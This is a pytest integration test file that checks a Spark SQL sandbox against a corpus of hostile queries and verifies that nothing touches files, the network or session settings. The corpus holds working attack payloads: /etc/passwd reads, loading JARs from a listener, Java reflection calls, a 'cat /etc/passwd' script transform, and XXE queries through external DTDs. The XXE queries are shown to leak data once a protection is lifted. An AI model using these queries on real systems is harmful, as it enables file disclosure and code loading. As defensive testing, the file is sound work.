"""The SQL sandbox against a corpus of hostile queries (real Spark, one warm session).

Every query goes through the engine exactly as a derivative's transform would, and must come
back as ``InvalidQuery`` with a reason. Afterwards nothing may have touched the file system
(canary directory unchanged, no INSERT … DIRECTORY target), the protective settings must be
intact and no JAR, file or function may have been registered.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:  # `engine` is a top-level package next to `coordinator`
    sys.path.insert(0, str(ROOT))

from coordinator.transform.model import TransformInvalidQuery, TransformSuccess  # noqa: E402
from coordinator.transform.plan import OutputPaths, clear_outputs, plan_transform  # noqa: E402
from coordinator.transform.testing import (  # noqa: E402
    StepClock,
    inputs_of,
    make_derivative,
    make_root,
    push_csv,
)

pytestmark = pytest.mark.integration

CANARY = "/tmp/odf-sandbox-canary"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


NET = f"127.0.0.1:{_free_port()}"  # a listener the test owns: no query may connect to it

HOSTILE: list[tuple[str, str]] = [
    # path-based relations
    (f"SELECT * FROM parquet.`{CANARY}/data.parquet`", "path-based"),
    ("SELECT * FROM parquet.`/etc`", "not an input"),
    ("SELECT * FROM text.`/etc/passwd`", "not an input"),
    ("SELECT * FROM csv.`file:///etc/passwd`", "not an input"),
    ("SELECT * FROM json.`/etc/hostname`", "not an input"),
    ("SELECT * FROM `parquet`.`/etc`", "not an input"),
    (f"WITH x AS (SELECT * FROM parquet.`{CANARY}`) SELECT * FROM x", "not an input"),
    ("SELECT * FROM cities UNION ALL SELECT * FROM orc.`/tmp`", "not an input"),
    ("SELECT * FROM cities WHERE city IN (SELECT value FROM text.`/etc/passwd`)", "not an input"),
    # network
    (f"SELECT * FROM json.`http://{NET}/x`", "not an input"),
    (f"SELECT * FROM parquet.`hdfs://{NET}/x`", "not an input"),
    (
        f"CREATE TEMPORARY VIEW j USING jdbc OPTIONS (url 'jdbc:postgresql://{NET}/db', "
        "dbtable 't')",
        "only SELECT",
    ),
    (f"ADD JAR http://{NET}/evil.jar", "only SELECT"),
    (f"SELECT java_method('java.net.URL', 'openStream', 'http://{NET}/')", "java_method"),
    # IDENTIFIER() clauses bypass the parsed-plan checks; the analysed plan catches them
    ("SELECT * FROM IDENTIFIER('parquet.`/etc`')", "does not analyse"),
    ("SELECT * FROM IDENTIFIER('spark_catalog.default.x')", "does not analyse"),
    (
        "SELECT IDENTIFIER('java_method')('java.lang.System', 'getenv', 'HOME')",
        "CallMethodViaReflection",
    ),
    ("SELECT transform(array(1), x -> reflect('java.lang.System', 'exit', 0))", "reflect"),
    # catalogs / other relations
    ("SELECT * FROM spark_catalog.default.secrets", "not an input"),
    ("SELECT * FROM global_temp.other", "not an input"),
    ("SELECT * FROM some_other_view", "not an input"),
    ("SELECT * FROM range(10)", "not allowed"),
    # reflection and friends
    ("SELECT reflect('java.lang.System', 'getenv', 'HOME')", "reflect"),
    ("SELECT java_method('java.lang.Runtime', 'getRuntime')", "java_method"),
    ("SELECT try_reflect('java.lang.System', 'exit', 1)", "try_reflect"),
    (
        "SELECT * FROM cities WHERE EXISTS (SELECT REFLECT('java.util.UUID', 'randomUUID'))",
        "reflect",
    ),
    ("SELECT city, input_file_name() AS f, event_time FROM cities", "input_file_name"),
    ("SELECT TRANSFORM(city) USING 'cat /etc/passwd' AS (x) FROM cities", "ScriptTransformation"),
    # commands
    ("SET spark.sql.runSQLOnFiles=true", "only SELECT"),
    ("RESET", "only SELECT"),
    ("ADD JAR /tmp/evil.jar", "only SELECT"),
    (f"ADD FILE {CANARY}/data.txt", "only SELECT"),
    ("LIST FILES", "only SELECT"),
    ("CREATE TEMPORARY FUNCTION evil AS 'com.evil.Udf' USING JAR '/tmp/evil.jar'", "only SELECT"),
    ("CREATE FUNCTION evil AS 'com.evil.Udf'", "only SELECT"),
    (f"CREATE TABLE t USING parquet LOCATION '{CANARY}'", "only SELECT"),
    (f"CREATE TEMPORARY VIEW v USING parquet OPTIONS (path '{CANARY}')", "only SELECT"),
    ("CREATE OR REPLACE TEMPORARY VIEW cities AS SELECT 1", "only SELECT"),
    ("DROP VIEW cities", "only SELECT"),
    ("DROP TABLE cities", "only SELECT"),
    (
        f"INSERT OVERWRITE DIRECTORY '{CANARY}/out' USING parquet SELECT * FROM cities",
        "only SELECT",
    ),
    (f"INSERT OVERWRITE LOCAL DIRECTORY '{CANARY}/out2' SELECT * FROM cities", "only SELECT"),
    ("INSERT INTO cities SELECT * FROM cities", "only SELECT"),
    (f"LOAD DATA LOCAL INPATH '{CANARY}/data.txt' INTO TABLE cities", "only SELECT"),
    ("DELETE FROM cities", "only SELECT"),
    ("UPDATE cities SET city = 'x'", "only SELECT"),
    ("TRUNCATE TABLE cities", "only SELECT"),
    ("CACHE TABLE c2 AS SELECT * FROM cities", "only SELECT"),
    ("CLEAR CACHE", "only SELECT"),
    (f"REFRESH '{CANARY}'", "only SELECT"),
    ("EXPLAIN SELECT * FROM cities", "only SELECT"),
    ("SHOW TABLES", "only SELECT"),
    ("DESCRIBE cities", "only SELECT"),
    ("USE other_db", "only SELECT"),
    ("CREATE DATABASE evil", "only SELECT"),
    ("SELECT 1; SELECT 2", "cannot parse"),
    ("SELECT * FROM cities; DROP VIEW cities", "cannot parse"),
    # XML functions: the JDK parser behind them reads external DTDs (file:, http:)
    (
        f"SELECT xpath_string('<!DOCTYPE a SYSTEM \"http://{NET}/e.dtd\"><a>&ext;</a>', 'a')",
        "xpath",
    ),
    (
        'SELECT event_time, xpath_string(\'<!DOCTYPE a SYSTEM "file:///etc/hostname">'
        "<a>&ext;</a>', 'a') AS h FROM cities",
        "xpath_string",
    ),
    ("SELECT XPATH('<a><b>1</b></a>', 'a/b/text()') AS x", "xpath"),
    ("SELECT event_time, xpath_int(city, 'a') AS n FROM cities", "xpath_int"),
    ("SELECT event_time FROM cities WHERE xpath_boolean(city, 'a')", "xpath_boolean"),
    ("SELECT xpath_long('<a>1</a>', 'a'), xpath_short('<a>1</a>', 'a')", "xpath_"),
    ("SELECT xpath_float('<a>1</a>', 'a') + xpath_double('<a>1</a>', 'a')", "xpath_"),
    ("SELECT xpath_number('<a>1</a>', 'a') AS n", "xpath_number"),
    ("SELECT transform(array(city), x -> xpath_string(x, 'a')) AS t FROM cities", "xpath_string"),
    ("WITH x AS (SELECT xpath_long('<a>1</a>', 'a') AS n) SELECT * FROM x", "xpath_long"),
    (
        "SELECT * FROM cities WHERE EXISTS (SELECT xpath_double('<a>1</a>', 'a') AS d)",
        "xpath_double",
    ),
    ("SELECT IDENTIFIER('xpath_string')('<a>1</a>', 'a') AS x", "XPathString"),
    ("SELECT IDENTIFIER('XPATH')('<a>1</a>', 'a') AS x", "XPathList"),
    ("SELECT from_xml('<a>1</a>', 'a INT') AS x", "from_xml"),
    ("SELECT schema_of_xml('<a>1</a>') AS x", "schema_of_xml"),
    # partitioning hints: every partition is a task
    ("SELECT /*+ REPARTITION(100000) */ * FROM cities", "REPARTITION(100000)"),
    ("SELECT /*+ repartition(100000) */ * FROM cities", "REPARTITION(100000)"),
    ("SELECT /*+ COALESCE(100000) */ * FROM cities", "COALESCE(100000)"),
    ("SELECT /*+ REPARTITION_BY_RANGE(100000, city) */ * FROM cities", "REPARTITION_BY_RANGE"),
    ("SELECT /*+ REBALANCE(100000) */ * FROM cities", "REBALANCE(100000)"),
    ("SELECT /*+ REPARTITION(65, city) */ * FROM cities", "REPARTITION(65)"),
    ("SELECT /*+ BROADCAST(cities), REPARTITION(1000) */ * FROM cities", "REPARTITION(1000)"),
    ("SELECT * FROM (SELECT /*+ REPARTITION(100000) */ * FROM cities) t", "REPARTITION(100000)"),
    ("WITH x AS (SELECT /*+ REBALANCE(500, city) */ * FROM cities) SELECT * FROM x", "REBALANCE"),
    # facts about the verifier: its OS user, its Spark build
    ("SELECT event_time, current_user() AS u FROM cities", "current_user"),
    ("SELECT event_time, CURRENT_USER() AS u FROM cities", "current_user"),
    ("SELECT event_time, user() AS u FROM cities", "user"),
    ("SELECT event_time, session_user() AS u FROM cities", "session_user"),
    ("SELECT event_time, version() AS v FROM cities", "version"),
    ("SELECT event_time, current_user AS u FROM cities", "CurrentUser"),
    ("SELECT event_time, IDENTIFIER('current_user')() AS u FROM cities", "CurrentUser"),
    ("SELECT event_time, IDENTIFIER('version')() AS v FROM cities", "SparkVersion"),
    ("SELECT * FROM cities WHERE current_user() = 'root'", "current_user"),
    ("SELECT event_time, current_catalog() AS c FROM cities", "current_catalog"),
]


@pytest.fixture(scope="module")
def spark() -> Iterator[Any]:
    from engine.spark_engine import create_spark_session

    yield create_spark_session("local[2]")


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory, spark: Any) -> Any:
    import pyarrow as pa
    import pyarrow.parquet as pq

    canary = Path(CANARY)
    canary.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table({"secret": ["s3cr3t"]}), canary / "data.parquet")
    (canary / "data.txt").write_text("secret\n")
    tmp = tmp_path_factory.mktemp("sandbox")
    clock = StepClock()
    root = make_root(tmp, "root")
    push_csv(
        root,
        tmp / "in",
        "event_time,city,population\n2020-01-01T00:00:00Z,A,1000\n2020-01-02T00:00:00Z,B,20\n",
        clock,
    )
    return tmp, root, clock


def snapshot_dir(p: Path) -> dict[str, tuple[int, float]]:
    return {str(f): (f.stat().st_size, f.stat().st_mtime) for f in sorted(p.rglob("*"))}


def run(setup: Any, spark: Any, query: str, engine: Any = None, root: Any = None) -> Any:
    """Transform a fresh derivative of ``query`` over ``root`` (default: the setup's root)."""
    from engine.spark_engine import SparkEngine

    tmp, default_root, clock = setup
    root = root if root is not None else default_root
    name = f"d{clock().epoch_ns}"
    der = make_derivative(tmp, name, [(root, "cities")], [(None, query)])
    paths = OutputPaths.under(tmp / name / "work")
    plan = plan_transform(der, inputs_of(root), system_time=clock(), paths=paths)
    assert plan is not None
    clear_outputs(paths)
    return (engine or SparkEngine(spark)).execute_transform(plan.request)


def test_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 30
    assert len({q for q, _ in HOSTILE}) == len(HOSTILE)


def test_hostile_queries_are_refused(setup: Any, spark: Any) -> None:
    host, port = NET.split(":")
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((host, int(port)))
    listener.listen(8)
    listener.settimeout(0.2)
    before = snapshot_dir(Path(CANARY))
    jars_before = spark.sparkContext._jsc.sc().listJars().size()
    failures = []
    for query, reason in HOSTILE:
        resp = run(setup, spark, query)
        if not isinstance(resp, TransformInvalidQuery):
            failures.append(f"{query!r}: {resp}")
        elif reason.lower() not in resp.message.lower():
            failures.append(f"{query!r}: reason {resp.message!r} lacks {reason!r}")
    assert not failures, "\n".join(failures)
    # Nobody connected to the network canary.
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()
    # Nothing touched the file system or the session's protections.
    assert snapshot_dir(Path(CANARY)) == before
    assert not Path(CANARY, "out").exists() and not Path(CANARY, "out2").exists()
    assert spark.conf.get("spark.sql.runSQLOnFiles") == "false"
    assert spark.sparkContext._jsc.sc().listJars().size() == jars_before
    assert spark.sparkContext._jsc.sc().listFiles().size() == 0
    assert not [f for f in spark.catalog.listFunctions() if not f.isTemporary and "evil" in f.name]
    assert [t.name for t in spark.catalog.listTables()] == []
    assert [d.name for d in spark.catalog.listDatabases()] == ["default"]


@pytest.mark.parametrize(
    "query",
    [
        "SELECT op, event_time, city, population FROM cities",
        "SELECT op, event_time, upper(city) AS c FROM cities WHERE population > 10",
        "WITH x AS (SELECT * FROM cities) SELECT event_time, city FROM x WHERE city = 'A'",
        "SELECT event_time, city FROM cities"
        " WHERE city IN (SELECT city FROM cities WHERE population > 100)",
        "SELECT event_time, city, CAST(population AS DOUBLE) / 3 AS p FROM `cities`",
        "SELECT /*+ REPARTITION(4) */ op, event_time, city FROM cities",
        "SELECT /*+ COALESCE(1) */ op, event_time, city FROM cities",
        "SELECT /*+ REPARTITION(64, city) */ op, event_time, city FROM cities",
        "SELECT /*+ BROADCAST(cities) */ op, event_time, city FROM cities",
        "SELECT op, event_time, city FROM cities DISTRIBUTE BY city",
    ],
)
def test_legitimate_queries_run(setup: Any, spark: Any, query: str) -> None:
    assert isinstance(run(setup, spark, query), TransformSuccess)


def test_verdict_cache_keeps_only_accepted_queries_per_schema(setup: Any, spark: Any) -> None:
    """Accepted verdicts are reused for the same text over the same view schemas only;
    refusals are walked every time."""
    from engine.spark_engine import SparkEngine

    engine = SparkEngine(spark)
    good = "SELECT op, event_time, city FROM cities"
    for _ in range(2):
        assert isinstance(run(setup, spark, good, engine), TransformSuccess)
    assert (engine.sandbox.hits, engine.sandbox.misses) == (1, 1)
    for query, _ in HOSTILE[:3] * 2:
        assert isinstance(run(setup, spark, query, engine), TransformInvalidQuery)
    assert (engine.sandbox.hits, engine.sandbox.misses) == (1, 7)
    # Same text, an input with another schema: checked again.
    tmp, _, clock = setup
    other = make_root(
        tmp, "other", ("event_time TIMESTAMP", "city STRING", "population BIGINT", "x INT")
    )
    push_csv(
        other, tmp / "in-other", "event_time,city,population,x\n2020-01-01T00:00:00Z,A,1,2\n", clock
    )
    assert isinstance(run(setup, spark, good, engine, other), TransformSuccess)
    assert (engine.sandbox.hits, engine.sandbox.misses) == (1, 8)


def run_with_output(setup: Any, spark: Any, query: str) -> tuple[Any, Path]:
    """:func:`run`, also giving the path the output parquet file is written to."""
    from engine.spark_engine import SparkEngine

    tmp, root, clock = setup
    name = f"d{clock().epoch_ns}"
    der = make_derivative(tmp, name, [(root, "cities")], [(None, query)])
    paths = OutputPaths.under(tmp / name / "work")
    plan = plan_transform(der, inputs_of(root), system_time=clock(), paths=paths)
    assert plan is not None
    clear_outputs(paths)
    return SparkEngine(spark).execute_transform(plan.request), plan.request.new_data_path


class _DtdServer:
    """A loopback HTTP server that serves a DTD defining ``&ext;`` and counts connections."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.connections = 0
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def setup(self) -> None:
                outer.connections += 1
                super().setup()

            def do_GET(self) -> None:
                body = b'<!ENTITY ext "LEAKED-OVER-HTTP">'
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_xml_entities_forced_past_the_sandbox_open_no_file_and_no_connection(
    setup: Any, spark: Any, tmp_path: Path
) -> None:
    """The engine's JVM refuses external DTDs even when the sandbox is bypassed.

    The queries run straight through ``spark.sql`` in the engine's session (the sandbox never
    sees them): the file DTD must not be opened (inotify sees any open or read, by any
    process) and the HTTP DTD server must get no connection. A positive control in the same
    JVM, with the property cleared, shows that the same queries do read the file and fetch the
    DTD, so the witnesses work. With the sandbox on, both are refused with its typed error.
    """
    from engine.errors import SandboxViolation
    from engine.sandbox import check_query
    from tests.inotify import IN_ACCESS, IN_OPEN, Inotify

    system = spark._jvm.java.lang.System
    assert system.getProperty("javax.xml.accessExternalDTD") == ""  # the engine's JVM options
    dtd = tmp_path / "e.dtd"
    dtd.write_text('<!ENTITY ext "LEAKED-FROM-FILE">')
    server = _DtdServer()
    watch = Inotify(tmp_path)
    queries = {
        "file": f"SELECT xpath_string('<!DOCTYPE a SYSTEM \"file://{dtd}\"><a>&ext;</a>', 'a')",
        "http": (
            "SELECT xpath_string('<!DOCTYPE a SYSTEM "
            f"\"http://127.0.0.1:{server.port}/e.dtd\"><a>&ext;</a>', 'a')"
        ),
    }

    def direct(sql: str) -> Any:
        try:
            return spark.sql(sql).collect()[0][0]
        except Exception as e:
            return e

    def opened() -> bool:
        return any(
            mask & (IN_OPEN | IN_ACCESS) and name == "e.dtd" for mask, name in watch.events()
        )

    try:
        for kind, sql in queries.items():
            with pytest.raises(SandboxViolation, match="xpath_string"):
                check_query(spark, sql, {"cities"})
            out = direct(sql)
            assert isinstance(out, Exception), (kind, out)
            assert "LEAKED" not in str(out)
        assert not opened()
        assert server.connections == 0
        # Positive control: without the property the JDK parser reads both DTDs.
        system.clearProperty("javax.xml.accessExternalDTD")
        try:
            assert direct(queries["file"]) == "LEAKED-FROM-FILE"
            assert opened()
            assert direct(queries["http"]) == "LEAKED-OVER-HTTP"
            assert server.connections == 1
        finally:
            system.setProperty("javax.xml.accessExternalDTD", "")
    finally:
        watch.close()
        server.close()


def test_huge_partition_hint_is_refused_quickly(setup: Any, spark: Any) -> None:
    """``REPARTITION(100000)`` over a one-row input ran for more than 8 minutes; refused at
    the check now, before any task exists."""
    from engine.sandbox import MAX_HINT_PARTITIONS

    query = "SELECT /*+ REPARTITION(100000) */ op, event_time, city FROM cities"
    t0 = time.monotonic()
    resp = run(setup, spark, query)
    elapsed = time.monotonic() - t0
    assert isinstance(resp, TransformInvalidQuery)
    assert f"at most {MAX_HINT_PARTITIONS}" in resp.message
    assert elapsed < 10, elapsed


def test_variables_in_the_text_are_not_substituted(setup: Any, spark: Any) -> None:
    """``${env:HOME}`` / ``${system:user.name}`` stay text: Spark would otherwise put the
    verifier's home directory and user into the data before the sandbox parsed the query."""
    import pyarrow.parquet as pq

    query = (
        "SELECT op, event_time, '${env:HOME}' AS h, '${system:user.name}' AS u, "
        "'${spark.app.name}' AS s FROM cities"
    )
    resp, out = run_with_output(setup, spark, query)
    assert isinstance(resp, TransformSuccess), resp
    table = pq.read_table(out).to_pydict()
    assert set(table["h"]) == {"${env:HOME}"}
    assert set(table["u"]) == {"${system:user.name}"}
    assert set(table["s"]) == {"${spark.app.name}"}
